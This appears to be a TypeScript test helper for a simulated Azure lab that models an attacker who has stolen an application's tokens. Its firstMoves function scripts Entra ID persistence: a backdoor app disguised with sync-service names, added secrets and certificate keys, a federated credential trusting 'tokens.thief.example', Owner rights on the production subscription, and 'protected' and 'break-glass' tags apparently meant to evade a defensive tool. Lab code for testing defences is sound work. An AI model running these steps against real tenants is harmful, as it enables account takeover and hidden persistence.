import { createHash, sign } from 'node:crypto'
import { armed } from '../../../src/lab/azure/seed/armed.ts'
import { guid, objectId, SUBSCRIPTIONS } from '../../../src/lab/azure/seed/index.ts'
import { graphRole, ROLES } from '../../../src/lab/azure/seed/permissions.ts'
import type { AzureEstate } from '../../../src/lab/azure/store.ts'
import { ARM, GRAPH, type Reply, type Town } from './town.ts'
import { type Certified, certify } from './x509.ts'

/** Calls Graph, or Resource Manager, as the thief. */
export interface Thief {
  graph(method: string, path: string, body?: unknown): Promise<Reply>
  arm(method: string, path: string, body?: unknown): Promise<Reply>
  /** Object id of the principal that it has taken over. */
  principal: string
}

export interface Made {
  /** Object ids. */
  application: string
  principal: string
  group: string
  appId: string
  secret: string
  certificate: Certified
}

const OWN = objectId('mail-insights')
const GLOBAL_ADMINISTRATOR = '62e90394-69f5-4237-9190-012177145e10'

/** Mail Insights as an application that may write the directory, and owns the production subscription. */
export function powerful(estate: AzureEstate): void {
  Object.assign(estate, armed(estate, ['consented-app']))
  estate.directoryAssignments.push({
    id: `${guid('thief').replaceAll('-', '')}-1`,
    principalId: OWN,
    roleDefinitionId: GLOBAL_ADMINISTRATOR,
    directoryScopeId: '/',
    condition: null,
  })
}

/** The thief in the lab, with tokens for Graph and for Resource Manager. */
export async function thiefOf(here: Town): Promise<Thief> {
  const [graph, arm] = [
    await here.token('mail-insights', 'mail-insights/stolen', GRAPH),
    await here.token('mail-insights', 'mail-insights/stolen', ARM),
  ]
  return {
    principal: OWN,
    graph: (method, path, body) => here.call(method, `/v1.0${path}`, graph, body),
    arm: (method, path, body) => here.call(method, path, arm, body),
  }
}

const ROLE_ASSIGNMENT = `/subscriptions/${SUBSCRIPTIONS.production}/providers/Microsoft.Authorization/roleAssignments/5f2a2f0e-3c8b-4a50-9b0e-6d6a5f0f1c11?api-version=2022-04-01`
const READ_USERS = 'User.Read.All'

/** The first moves of a thief with directory and role rights: an application of its own with the same rights. */
export async function firstMoves({ graph, arm, principal: own }: Thief): Promise<Made> {
  const good = async (reply: Promise<Reply>) => {
    const { status, body } = await reply
    if (status >= 300) throw new Error(`${status} ${JSON.stringify(body)}`)
    return body
  }
  const application = await good(
    graph('POST', '/applications', { displayName: 'Backup agent', tags: ['nightly'] }),
  )
  const at = `/applications/${application.id}`
  await good(
    graph('PATCH', at, { displayName: 'ConnectSyncProvisioning_DC02', tags: ['interdict:protected=true'] }),
  )
  const principal = await good(graph('POST', '/servicePrincipals', { appId: application.appId }))
  const principalAt = `/servicePrincipals/${principal.id}`
  await good(graph('PATCH', principalAt, { tags: ['break-glass'] }))
  const passwordCredential = { displayName: 'ci' }
  const { secretText } = await good(graph('POST', `${at}/addPassword`, { passwordCredential }))
  await good(graph('POST', `${principalAt}/addPassword`, { passwordCredential }))

  const first = certify('first')
  await good(graph('PATCH', at, { keyCredentials: [keyOf(first)] }))
  const second = certify('second')
  const proof = proofOf(application.id, first)
  await good(graph('POST', `${at}/addKey`, { keyCredential: keyOf(second), passwordCredential: null, proof }))
  await good(
    graph('POST', `${at}/federatedIdentityCredentials`, {
      name: 'theirs',
      issuer: 'https://tokens.thief.example',
      subject: 'thief',
      audiences: ['api://AzureADTokenExchange'],
    }),
  )

  const resourceId = objectId('Microsoft Graph')
  const role = { principalId: principal.id, resourceId, appRoleId: graphRole(READ_USERS) }
  const assigned = await good(graph('POST', `/servicePrincipals/${resourceId}/appRoleAssignedTo`, role))
  await good(graph('DELETE', `/servicePrincipals/${resourceId}/appRoleAssignedTo/${assigned.id}`))
  await good(graph('POST', `${principalAt}/appRoleAssignments`, role))
  const group = await good(
    graph('POST', '/groups', {
      displayName: 'Operators',
      mailEnabled: false,
      mailNickname: 'operators',
      securityEnabled: true,
    }),
  )
  const reference = { '@odata.id': `https://graph.microsoft.com/v1.0/directoryObjects/${principal.id}` }
  await good(graph('POST', `/groups/${group.id}/members/$ref`, reference))
  await good(graph('POST', `${at}/owners/$ref`, reference))
  await good(
    arm('PUT', ROLE_ASSIGNMENT, {
      properties: {
        principalId: principal.id,
        principalType: 'ServicePrincipal',
        roleDefinitionId: `/subscriptions/${SUBSCRIPTIONS.production}/providers/Microsoft.Authorization/roleDefinitions/${ROLES.Owner}`,
      },
    }),
  )
  await good(graph('PATCH', `/servicePrincipals/${own}`, { tags: ['interdict:protected=true'] }))
  return {
    application: application.id,
    principal: principal.id,
    group: group.id,
    appId: application.appId,
    secret: secretText,
    certificate: second,
  }
}

/** Takes away what {@link firstMoves} made, but for the group. */
export async function undoMoves({ graph, arm }: Thief, made: Made): Promise<void> {
  await arm('DELETE', ROLE_ASSIGNMENT)
  await graph('DELETE', `/servicePrincipals/${made.principal}`)
  await graph('DELETE', `/applications/${made.application}`)
}

function keyOf({ der }: Certified) {
  return {
    type: 'AsymmetricX509Cert',
    usage: 'Verify',
    key: der.toString('base64'),
    endDateTime: new Date(Date.now() + 86_400_000).toISOString(),
  }
}

/** That somebody has the key of a certificate which the object has already. */
export function proofOf(id: string, { key, der }: Certified): string {
  const part = (value: object) => Buffer.from(JSON.stringify(value)).toString('base64url')
  const now = Math.floor(Date.now() / 1000)
  const x5t = createHash('sha1').update(der).digest('base64url')
  const claims = { aud: '00000002-0000-0000-c000-000000000000', iss: id, nbf: now, exp: now + 600 }
  const text = `${part({ alg: 'RS256', typ: 'JWT', x5t })}.${part(claims)}`
  return `${text}.${sign('RSA-SHA256', Buffer.from(text), key).toString('base64url')}`
}
